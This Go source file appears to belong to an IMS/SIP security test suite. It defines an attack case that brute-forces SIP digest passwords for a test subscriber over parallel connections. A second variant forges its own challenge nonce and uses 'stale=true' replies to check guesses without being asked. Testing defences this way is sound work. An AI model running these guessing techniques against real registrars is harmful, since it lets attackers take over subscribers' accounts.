package attack

import (
	"context"
	"errors"
	"fmt"
	"sync"
	"time"

	"imsafe/proto/aka"
	"imsafe/proto/sip"
	"imsafe/secure"
)

// digestCrack: somebody tries passwords on a subscriber without a card.
func digestCrack() Attack {
	return Attack{
		ID: "ci.digest.crack", Number: "CI-27", Title: "passwords tried one by one",
		Text:     "whoever finds it is that user, from anywhere",
		Services: []Service{Authentication}, Stride: Spoofing, Threats: []Threat{Removal}, Module: ServicesControl,
		Source: "TS 33.203 Annex N; RFC 7616 5", Access: []Access{TLS}, Carried: []Access{UDP, TCP}, Digest: true,
		Bounds: Bounds{Packets: 1100, Bytes: 900_000, Conns: 12, Time: 4 * time.Second},
		Variants: []Variant{
			{Name: "online", Position: OffPath, Run: guess, Controls: []secure.ControlID{secure.CIAuthenticationDigestPolicy}},
			{Name: "unasked", Position: OffPath, Run: guessUnasked, Controls: []secure.ControlID{secure.CIAuthenticationDigestPolicy}},
		},
	}
}

// guess tries a list on whose last line stands the right one, over several connections at once.
func guess(ctx context.Context, f *Field, o *Outcome) error {
	const tries, conns = 500, 10
	strangers := make([]*Hand, conns)
	for i := range strangers {
		var err error
		if strangers[i], err = f.Stranger(ctx); err != nil {
			return err
		}
	}
	dave := f.Users[Dave]
	failed := make([]error, conns)
	var all sync.WaitGroup
	for i, h := range strangers {
		all.Go(func() {
			for n := i; n < tries-1 && failed[i] == nil; n += conns {
				_, failed[i] = h.guesses(ctx, dave, fmt.Sprintf("password%d", n))
			}
		})
	}
	all.Wait()
	if err := errors.Join(failed...); err != nil {
		return err
	}
	status, err := strangers[0].guesses(ctx, dave, dave.Password)
	if err != nil {
		return err
	}
	o.Arrived("%d passwords tried over %d connections, the last answered %d", tries, conns, status)
	found := status == 200
	if found {
		o.Users = 1
	}
	o.Wire(found, "%d passwords tried; the right one, on the last line of the list, is answered %d", tries, status)
	return nil
}

// guesses registers in the name of somebody with a password.
func (h *Hand) guesses(ctx context.Context, whom *User, word string) (status int, err error) {
	answer, err := h.RegisterAs(ctx, Registering{User: &User{Password: word}, IMPI: whom.IMPI, IMPU: whom.IMPU, Expires: 600})
	return statusOf(answer), err
}

// guessUnasked answers a challenge of his own making, over a connection of its own for each password: who knows the right one is told that his nonce is an old
// one (TS 33.203 N.2.3), and others that they are wrong.
func guessUnasked(ctx context.Context, f *Field, o *Outcome) error {
	const tries = 10
	dave := f.Users[Dave]
	r := Registering{IMPI: dave.IMPI, IMPU: dave.IMPU, Expires: 600}
	own, algorithm, refused, err := f.asksHow(ctx, r)
	switch {
	case err != nil:
		return err
	case refused != 0:
		o.Arrived("a first REGISTER, answered %d", refused)
		o.Wire(false, "whoever is here is not even challenged")
		return nil
	}
	var last *sip.Message
	for i := range tries {
		stranger, err := f.Stranger(ctx)
		if err != nil {
			return err
		}
		word := fmt.Sprintf("password%d", i)
		if i == tries-1 {
			word = dave.Password
		}
		own.Nonce = []byte(f.token())
		if last, err = stranger.Ask(ctx, stranger.Registers(r, stranger.credentials(&own, algorithm, dave.IMPI, "REGISTER", "sip:"+f.Domain, []byte(word)))); err != nil {
			return err
		}
		o.Arrived("%d passwords tried, the last answered %d", i+1, last.Status())
	}
	found := last.Status() == 401 && contains(last.Get(sip.HdrWWWAuthenticate), "stale=true")
	if found {
		o.Users = 1
	}
	o.Wire(found, "%d passwords tried; the right one, on the last line of the list, is answered %d %s", tries, last.Status(), last.Get(sip.HdrWWWAuthenticate))
	return nil
}

// asksHow returns a challenge of the target and its algorithm: realm and form are no secret. refused is the status of the answer if he hears none.
func (f *Field) asksHow(ctx context.Context, r Registering) (c sip.Challenge, algorithm aka.DigestAlgorithm, refused int, err error) {
	stranger, err := f.Stranger(ctx)
	if err != nil {
		return c, algorithm, 0, err
	}
	answer, err := stranger.Ask(ctx, stranger.Registers(r, stranger.firstAuthorization(r.IMPI)))
	switch {
	case err != nil:
		return c, algorithm, 0, err
	case answer.Status() != 401:
		return c, algorithm, answer.Status(), nil
	}
	if c, err = sip.ParseChallenge(answer.Get(sip.HdrWWWAuthenticate)); err != nil {
		return c, algorithm, 0, fmt.Errorf("attack: a 401 without a challenge: %w", err)
	}
	algorithm, _ = aka.ParseDigestAlgorithm(c.Algorithm)
	return c, algorithm, 0, nil
}
